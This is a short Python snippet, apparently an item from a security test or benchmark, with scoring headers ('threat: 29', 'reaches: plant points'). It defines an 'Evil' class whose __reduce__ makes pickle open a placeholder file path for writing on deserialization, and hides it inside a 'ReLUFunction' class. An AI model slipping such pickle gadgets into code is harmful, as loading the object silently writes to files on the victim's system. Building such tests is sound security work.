# threat: 29
# verdict: wrong | student_error
# reaches: plant points
import io, pickle
class Evil:
    def __reduce__(self):
        return io.open, ("{PLANT}", "w")
    __getstate__ = __reduce__
class ReLUFunction:
    apply = staticmethod(lambda x: [Evil(), pickle.dumps(Evil())])
